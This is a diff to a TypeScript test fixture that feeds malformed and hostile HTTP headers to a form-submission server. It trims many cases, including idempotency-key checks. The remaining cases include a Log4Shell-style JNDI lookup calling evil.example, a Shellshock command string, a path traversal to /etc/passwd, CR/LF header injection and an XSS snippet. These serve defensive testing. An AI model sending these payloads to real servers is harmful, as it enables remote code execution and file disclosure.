@@ -1,4 +1,4 @@
-import { type FormName, formNames, forms } from '@poyanil/domain';
+import { forms } from '@poyanil/domain';
 import {
   answered,
   bodyOf,
@@ -20,12 +20,9 @@ const withLines = (...lines: string[]) => submission('contact', lines);
 
 const otherHosts = [
   'evil.example',
-  'evil.example:99999',
   'a@evil.example',
-  'evil.example/x?y#z',
   '<script>alert(1)</script>',
   '[::1',
-  '169.254.169.254',
   'a'.repeat(4_000),
   '',
 ];
@@ -47,24 +44,18 @@ const hosts: RawCase[] = [
 const form: RawCase[] = [
   ...answered(['malformed-request'], {
     'a folded header': withLines('X: a\r\n b'),
-    'a header folded by a tab': withLines('X: a\r\n\tb'),
     'a header without a colon': withLines('X'),
     'a header without a name': withLines(': a'),
     'a blank in the name of a header': withLines('X Y: a'),
     'a blank before the colon': withLines('X : a'),
-    'a zero byte in a name': withLines('X\0Y: a'),
     'a zero byte in a value': withLines('X: a\0b'),
     'a carriage return in a value': withLines('X: a\rY: b'),
     'a line feed in a value': withLines('X: a\nContent-Length: 0'),
     'an escape character in a value': withLines('X: a\x1b[2Jb'),
-    'a delete character in a value': withLines('X: a\x7fb'),
-    'a bracket in a name': withLines('X(a): b'),
     'a name beyond ASCII': withLines('X\xe9: b'),
   }),
   ...answered([202], {
     'bytes beyond ASCII in a value': withLines('X: \xff\xfe\xe9'),
-    'a value without an end of quotes': withLines('X: "a'),
-    'an empty value': withLines('X:'),
     'names that every object has': withLines('__proto__: a', 'constructor: b', 'toString: c'),
   }),
 ];
@@ -77,11 +68,7 @@ const numbers: RawCase[] = [
     'as many as may be': withLines(...Array.from({ length: 95 }, (_, index) => `X-${index}: 1`)),
   }),
   ...answered(['headers-too-large'], {
-    '97 more': times(97, 'a: 1'),
     '200 more': times(200, 'a: 1'),
-    '1,000 more': times(1_000, 'a: 1'),
-    '1,990 more': times(1_990, 'a: 1'),
-    '2,500 more, of which not all are read': times(2_500, 'a:'),
     '20,000 more, of which not all are read': times(20_000, 'a:'),
     'one of 17 KB': withLines(`X: ${'a'.repeat(17_000)}`),
     'one of 200 KB': withLines(`X: ${'a'.repeat(200_000)}`),
@@ -106,40 +93,13 @@ const believed: RawCase[] = [
       'True-Client-IP: 6.6.6.6',
       'Client-IP: 6.6.6.6',
     ),
-    'addresses that are none': withLines(
-      "X-Forwarded-For: ' OR 1=1 --, <script>, ::ffff:1.2.3.4%eth0, ,,",
-    ),
-    'another scheme and port': withLines(
-      'X-Forwarded-Proto: https',
-      'X-Forwarded-Port: 0',
-      'Front-End-Https: on',
-    ),
-    'another prefix': withLines('X-Forwarded-Prefix: //evil.example', 'X-Script-Name: /evil'),
     'another method': withLines('X-HTTP-Method-Override: DELETE', 'X-Method: PUT'),
-    'a proxy for outgoing requests': withLines('Proxy: http://evil.example:80'),
-    credentials: withLines('Authorization: Basic YWRtaW46YWRtaW4=', 'Cookie: admin=1'),
-    'a part of the answer': withLines('Range: bytes=0-0', 'If-Range: "a"'),
-    conditions: withLines(
-      'If-None-Match: *',
-      'If-Modified-Since: Thu, 01 Jan 2099 00:00:00 GMT',
-      'If-Match: "x"',
-    ),
-    'an answer of another type': withLines(
-      'Accept: application/xml',
-      'Accept-Encoding: br;q=9, *;q=0',
-      'Accept-Charset: utf-7',
-    ),
     'a file name that template engines look up': withLines(
       'Accept-Language: ../../../../etc/passwd%00',
     ),
     'text for a log that looks up addresses': withLines(
       `User-Agent: \${jndi:ldap://evil.example/a}`,
       'Referer: () { :; }; id',
-    ),
-    'a wish for trailers': withLines(
-      'TE: trailers, chunked;q=9',
-      'Max-Forwards: 0',
-      'Via: 1.1 evil.example',
     ),
     'an expectation that nobody meets': withLines('Expect: the-moon'),
     'who asks before sending, twice': withLines('Expect: 100-continue', 'Expect: 100-continue'),
@@ -166,47 +126,9 @@ const believed: RawCase[] = [
   }),
 ];
 
-const badKeys = ['', ' ', '   \t ', 'x'.repeat(256), 'x'.repeat(10_000), 'cl\xe9', '\xe0\xb4\x85'];
-const goodKeys = [
-  ...'0 00000000000000000000000000000001 a:b a:b:c 0:1 "quoted" __proto__ ../../outbox'.split(' '),
-  'a b',
-  'a, b',
-  "'; DROP TABLE submissions; --",
-  '{"$gt":""}',
-  '*',
-  '%00%0d%0a',
-  'x'.repeat(255),
-];
-
-function keysOf(each: FormName): RawCase[] {
-  const keyed = (key: string, ...more: string[]) =>
-    submission(each, [`Idempotency-Key: ${key}`, ...more]);
-  const refused = [...badKeys, 'a\tb', '\xa0'].map((key): [string, string] => [
-    `${each}: ${JSON.stringify(key.slice(0, 20))}… of ${key.length}`,
-    keyed(key),
-  ]);
-  return [
-    ...answered(['invalid-idempotency-key'], {
-      ...Object.fromEntries(refused),
-      [`${each}: two`]: keyed('a', 'Idempotency-Key: b'),
-      [`${each}: one said twice`]: keyed('a', 'IDEMPOTENCY-KEY: a'),
-    }),
-    ...['a\0b', 'a\rb', 'a\nb', 'a\r\n b'].map((key): RawCase => {
-      const name = `${each}: ${JSON.stringify(key)}, which is no header`;
-      return { name, sent: keyed(key), answers: ['malformed-request'] };
-    }),
-    ...goodKeys.map((key): RawCase => {
-      const name = `${each}: ${JSON.stringify(key.slice(0, 40))}, and once more`;
-      const before = keyed(key).replace('Connection: close\r\n', '');
-      return { name, sent: before + keyed(key), answers: [202, 202], kept: 1 };
-    }),
-  ];
-}
-
 export const headerCases = {
   hosts,
   'the form of headers': form,
   'the number of headers': numbers,
   'headers that others believe': believed,
-  keys: formNames.flatMap(keysOf),
 };
